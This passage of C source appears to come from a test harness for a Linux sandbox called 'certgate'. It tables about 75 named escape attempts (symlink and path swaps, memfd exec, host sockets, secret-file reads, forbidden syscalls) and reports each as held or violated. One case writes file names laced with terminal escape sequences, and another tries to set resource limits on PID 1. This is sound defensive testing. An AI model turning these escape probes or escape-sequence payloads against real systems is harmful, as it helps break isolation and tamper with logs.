static int many_arguments(void) { return in_child(exec_ten_thousand) == 1 ? HELD : VIOLATION; }
static void exec_empty(void) { execve("/usr/bin/false", null_vector, null_vector); }
static int empty_argv(void) {
  int status = in_child(exec_empty);
  SAY("status %d", status);
  return status == 1 || status == 99 ? HELD : VIOLATION;
}
static int limits_of_init(void) {
  struct rlimit none = {0, 0};
  for (int r = 0; r < 16; ++r)
    if (syscall(SYS_prlimit64, 1, r, &none, 0) == 0) return SAY("limit %d of init set", r), VIOLATION;
  return HELD;
}
static int escape_names(void) {
  open("src/\x1b[31mred\x1b]0;title\x07\n", O_WRONLY | O_CREAT, 0644);
  open("src/\xff\xfe", O_WRONLY | O_CREAT, 0644);
  return HELD;  // what the log prints is looked at outside
}

struct Attack {
  const char* name;
  int (*run)(void);
  int tainted;  // 1: the label is raised first
  int bare;     // 1: without certgate it has its effect
};
#define A(f, tainted, bare) {#f, f, tainted, bare}
static const struct Attack kAttacks[] = {
    A(open_write, 1, 1), A(creat_marker, 1, 1), A(proc_fd_reopen, 1, 1), A(opath_reopen, 1, 1), A(opath_write, 1, 0), A(symlink_follow, 1, 1),
    A(dotdot, 1, 1), A(tmpfile_linkat, 1, 1), A(rename_over, 1, 1), A(rename_exchange, 1, 1), A(rename_scratch, 1, 1),
    A(link_in_and_write, 1, 1), A(make_dir, 1, 1), A(unlink_file, 1, 1), A(truncate_path, 1, 1), A(ftruncate_reader, 1, 0), A(mmap_reader, 1, 0),
    A(chmod_path, 1, 1), A(fchmod_reader, 1, 1), A(fchmod_directory, 1, 1), A(fchown_reader, 1, 1), A(fsetxattr_reader, 1, 1),
    A(futimens_reader, 1, 1), A(inode_flags, 1, 1), A(openat2_flip, 1, 1), A(path_flip, 1, 1), A(symlink_swap, 1, 1), A(cwd_swap, 1, 1),
    A(dirfd_swap, 1, 1), A(directory_swap, 1, 1), A(exec_program, 1, 1), A(execveat_empty_path, 1, 1), A(memfd_exec, 1, 1), A(loader_launch, 1, 1),
    A(scratch_script, 1, 1), A(thread_exec, 1, 1), A(vfork_exec, 1, 1), A(exec_path_flip, 1, 1), A(exec_argv_flip, 1, 1), A(exec_under_stops, 1, 0),
    A(held_in_flight, 0, 1), A(held_mapping, 0, 1), A(held_by_child, 0, 1), A(held_fifo, 0, 1), A(released_fifo, 0, 0), A(held_link, 0, 1),
    A(connection_dup, 0, 1), A(connect_race, 0, 0), A(open_race, 0, 0), A(host_loopback, 0, 1), A(host_loopback_v6, 0, 0), A(udp_out, 0, 0),
    A(fast_open, 0, 0), A(fast_open_connect, 0, 0), A(unspec, 1, 1), A(late_sink, 1, 1), A(odd_sockets, 0, 1), A(host_unix_socket, 0, 1),
    A(host_unix_by_fd, 0, 1), A(host_abstract_socket, 0, 1), A(secret_file, 0, 1), A(init_internals, 0, 0), A(kernel_controls, 0, 1),
    A(write_system, 0, 0), A(forbidden_calls, 0, 0), A(fifo_stall, 0, 0), A(lease_stall, 0, 0), A(opens_at_once, 0, 0), A(blocked_connects, 0, 0),
    A(hostile_arguments, 1, 0), A(bad_pointers, 0, 0), A(many_arguments, 0, 0), A(empty_argv, 0, 0), A(limits_of_init, 0, 0), A(escape_names, 1, 0),
};

int main(int argc, char** argv) {
  const size_t count = sizeof kAttacks / sizeof *kAttacks;
  if (argc == 2 && strcmp(argv[1], "--list") == 0) {
    for (size_t i = 0; i < count; ++i) printf("%s %d %d\n", kAttacks[i].name, kAttacks[i].tainted, kAttacks[i].bare);
    return 0;
  }
  signal(SIGPIPE, SIG_IGN);
  const int out = dup(1);
  for (size_t i = 0; argc == 2 && i < count; ++i) {
    const struct Attack* a = &kAttacks[i];
    if (strcmp(a->name, argv[1]) != 0) continue;
    int verdict = SKIP;
    if (a->tainted && !getenv("RED_BARE") && taint()) {
      SAY("no page: %s", strerror(errno));
    } else {
      verdict = a->run();
    }
    const char* const words[] = {"HELD", "VIOLATION", "SKIP"};
    dprintf(out, "%s %s\n", words[verdict], note);
    _exit(0);  // threads may be waiting for ever
  }
  return 2;
}
